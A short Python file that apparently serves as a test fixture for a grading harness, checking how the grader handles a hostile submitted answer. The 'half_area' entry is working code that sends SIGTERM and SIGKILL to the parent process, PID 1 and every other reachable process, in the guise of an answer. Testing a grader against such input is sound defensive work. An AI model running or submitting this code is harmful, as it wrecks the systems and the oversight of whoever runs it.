"""Kills every process that it can reach: the parent, the first, all of them.

seen: no points for what came after, and nothing outside is affected.
"""

ANSWERS = {
    "area": """
import os, signal

def area(width, height):
    return width * height
""",
    "half_area": """
for number in (signal.SIGTERM, signal.SIGKILL):
    for pid in (os.getppid(), 1, -1, *range(2, 400)):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
""",
}
EARNS = 3
